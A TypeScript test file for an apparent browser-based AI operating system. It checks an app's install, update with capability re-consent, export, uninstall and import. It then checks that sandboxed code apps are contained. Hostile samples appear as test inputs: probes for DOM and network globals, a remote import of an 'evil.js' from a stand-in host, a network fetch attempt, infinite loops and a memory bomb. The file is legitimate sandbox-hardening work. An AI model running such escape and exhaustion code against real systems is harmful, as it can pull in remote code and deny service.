// Apps on the real stack (the kernel in Chromium's shared worker, the embedded model, IndexedDB):
// the bundled apps are installed on first boot; an app is installed, launched with an input and
// used, updated (its new capability waits for the user's grant), exported with its data,
// uninstalled, imported back — and all of it survives a reload.
import { expect, it } from "vitest";
import { openApp, useBrowser } from "./harness.ts";

const browser = useBrowser();

it("install → launch → use → update (re-consent) → export → uninstall → import, on the embedded model", async () => {
  const app = await openApp(browser(), "?device=wasm");
  try {
    const out = await app.page.evaluate(async () => {
      const codeOf = (p: Promise<unknown>) => p.then(() => "ok", (e) => `${(e as { code?: string }).code}: ${(e as Error).message}`);
      const bundled = (await window.aios.apps.list()).map((a) => a.manifest.id);
      const manifest = {
        manifestVersion: 1 as const,
        id: "converter",
        name: "Converter",
        version: "1.0.0",
        description: "Converts units.",
        icon: "📏",
        kind: "nl" as const,
        instructions: "You are AIOS, a helpful assistant inside a browser operating system.",
        capabilities: ["units", "files"],
        ui: "window" as const,
      };
      const installed = await window.aios.apps.install(JSON.stringify(manifest));
      const badInstall = await codeOf(window.aios.apps.install({ ...manifest, id: "Bad id" }));
      const started = performance.now();
      const p = await window.aios.apps.launch("converter", "How many miles is 5 km?");
      const launchMs = performance.now() - started;
      const reply = await p.reply!;
      const info = await p.info();
      await p.storage.write("saved.md", "5 km is about 3.1 miles");
      const squat = await codeOf(window.aios.spawn({ name: "converter" }));
      const updated = await window.aios.apps.update("converter", { ...manifest, version: "1.1.0", capabilities: ["units", "files", "clock"] });
      const beforeGrant = (await (await window.aios.apps.launch("converter")).info()).capabilities;
      const granted = await window.aios.apps.grant("converter", ["clock"]);
      const afterGrant = (await (await window.aios.apps.launch("converter")).info()).capabilities;
      const file = await window.aios.apps.export("converter", { data: true });
      const removed = await window.aios.apps.uninstall("converter", { keepData: false });
      const gone = await codeOf(window.aios.apps.launch("converter"));
      const left = await window.aios.storage.list(undefined, { namespace: "converter" });
      const imported = await window.aios.apps.import(file);
      const back = await window.aios.apps.launch("converter");
      const saved = await back.storage.read("saved.md");
      const history = await back.memory.history();
      return { bundled, installed, badInstall, launchMs, reply: { content: reply.content, calls: reply.toolCalls.map((c) => c.name) }, info, squat, updated, beforeGrant, granted, afterGrant, fileBytes: file.size, removed, gone, left, imported, saved: saved.content, turns: history.turns.length };
    });
    expect(out.bundled.sort()).toEqual(["assistant", "camera-reader", "council", "notes", "related-work", "researcher", "where-am-i"]);
    expect(out.installed).toMatchObject({ manifest: { id: "converter", version: "1.0.0" }, granted: ["units", "files"], pending: [], bundled: false });
    expect(out.badInstall).toMatch(/^EINVAL: manifest\.id:/);
    expect(out.info).toMatchObject({ name: "Converter", app: "converter", capabilities: ["units", "files"] });
    expect(out.reply.calls).toEqual(["units"]);
    expect(out.reply.content).toMatch(/3\.1/);
    expect(out.squat).toMatch(/^EPERM: name: converter is an installed app's id/);
    expect(out.updated).toMatchObject({ added: ["clock"], app: { granted: ["units", "files"], pending: ["clock"] } });
    expect(out.beforeGrant).toEqual(["units", "files"]);
    expect(out.granted).toMatchObject({ pending: [] });
    expect(out.afterGrant).toEqual(["units", "files", "clock"]);
    expect(out.removed).toMatchObject({ id: "converter", processes: 3 });
    expect(out.removed.files).toBeGreaterThan(1);
    expect(out.gone).toMatch(/^ENOENT/);
    expect(out.left).toEqual([]);
    expect(out.imported).toMatchObject({ manifest: { id: "converter", version: "1.1.0" }, imported: { files: out.removed.files } });
    expect(out.saved).toBe("5 km is about 3.1 miles");
    expect(out.turns).toBeGreaterThan(1);
    console.log(`apps: launch ${out.launchMs.toFixed(0)} ms, app file ${out.fileBytes} bytes`);

    // Installed apps survive a reload; an uninstalled bundled app does not come back.
    await app.page.evaluate(() => window.aios.apps.uninstall("where-am-i"));
    await app.page.reload();
    await app.page.evaluate(() => window.aios.ready);
    const after = await app.page.evaluate(async () => (await window.aios.apps.list()).map((a) => `${a.manifest.id}@${a.manifest.version}`));
    expect(after).toContain("converter@1.1.0");
    expect(after).not.toContain("where-am-i@1.0.0");
    expect(after).toContain("notes@1.0.0");
    app.assertOffline();
  } finally {
    await app.close();
  }
});

it("a code app runs in a worker sandbox with the SDK as its only power; runaway, memory bomb, DOM and network attempts end in typed errors", async () => {
  const app = await openApp(browser(), "?device=wasm");
  try {
    const out = await app.page.evaluate(async () => {
      let n = 0;
      const run = async (entry: string, input?: unknown, capabilities: string[] = []) => {
        const id = `code-${++n}`;
        await window.aios.apps.install({ manifestVersion: 1, id, name: `Code ${n}`, version: "1.0.0", description: "A code app.", kind: "code", entry, capabilities, ui: "headless" });
        const started = performance.now();
        const p = await window.aios.apps.launch(id, input);
        const result = await p.output!.then(
          (value) => ({ value }),
          (e) => ({ code: (e as { code?: string }).code, message: (e as Error).message }),
        );
        const exit = await window.aios.kernel.wait(p.pid);
        return { ...result, ms: performance.now() - started, startMs: exit.startMs, status: exit.status };
      };
      const words = await run(
        `export default async function (input) {
          await aios.storage.write("hello.md", "hi " + input.who);
          const sum = await aios.tools.call("calculator", { expression: "6*7" });
          const reply = await aios.llm.chat({ messages: [{ role: "user", content: "What is the capital of France?" }], max_tokens: 24, temperature: 0 });
          return { file: (await aios.storage.read("hello.md")).content, sum, reply: reply.choices[0].message.content };
        }`,
        { who: "you" },
        ["calculator", "files"],
      );
      const hostile = await run(`export default async function () {
        const globals = ["document", "window", "self", "fetch", "XMLHttpRequest", "WebSocket", "indexedDB", "caches", "importScripts", "setTimeout", "navigator", "postMessage", "Worker", "location"].filter((g) => typeof globalThis[g] !== "undefined");
        const imported = await import("http://127.0.0.1:9/evil.js").then(() => "loaded", (e) => e.name);
        const net = await aios.tools.call("fetch", { url: "http://127.0.0.1:9/x" }).then(() => "ran", (e) => e.code);
        return { globals, imported, net };
      }`);
      // A loop inside a native built-in: QuickJS never polls its interrupt there; the kernel terminates the worker.
      const nativeLoop = await run(`export default function () { const a = new Array(2 ** 31 - 1); return a.indexOf(1); }`);
      const loop = await run(`export default function () { for (;;) {} }`);
      const bomb = await run(`export default function () { const a = []; for (;;) a.push(new ArrayBuffer(1 << 20)); }`);
      // Call overhead: the same app with 0 and 300 SDK calls.
      const calls = (k: number) => run(`export default async function (k) { for (let i = 0; i < k; i++) await aios.kernel.info(); return k; }`, k);
      const none = await calls(0);
      const many = await calls(300);
      const after = await window.aios.llm.chat.completions.create({ messages: [{ role: "user", content: "Hello" }], max_tokens: 8 });
      return { words, hostile, nativeLoop, loop, bomb, none, many, after: after.choices[0]!.finish_reason };
    });
    expect(out.words).toMatchObject({ value: { file: "hi you", sum: 42, reply: expect.stringContaining("Paris") }, status: "exited" });
    expect(out.hostile).toMatchObject({ value: { globals: [], imported: expect.stringMatching(/Error/), net: "EPERM" }, status: "exited" });
    expect(out.nativeLoop).toMatchObject({ code: "ETIMEDOUT", message: expect.stringContaining("without yielding"), status: "failed" });
    expect(out.loop).toMatchObject({ code: "ETIMEDOUT", status: "failed" });
    expect(out.bomb).toMatchObject({ code: "EQUOTA", message: expect.stringContaining("MB of memory"), status: "failed" });
    expect(out.many).toMatchObject({ value: 300, status: "exited" });
    expect(out.after).toBeTruthy();
    const perCall = (out.many.ms - out.none.ms) / 300;
    console.log(`code apps: sandbox start ${out.none.startMs?.toFixed(0)} ms (first ${out.words.startMs?.toFixed(0)} ms), launch→result ${out.none.ms.toFixed(0)} ms, SDK call ${perCall.toFixed(2)} ms each; runaway stopped after ${out.nativeLoop.ms.toFixed(0)} ms`);
    app.assertOffline();
  } finally {
    await app.close();
  }
});
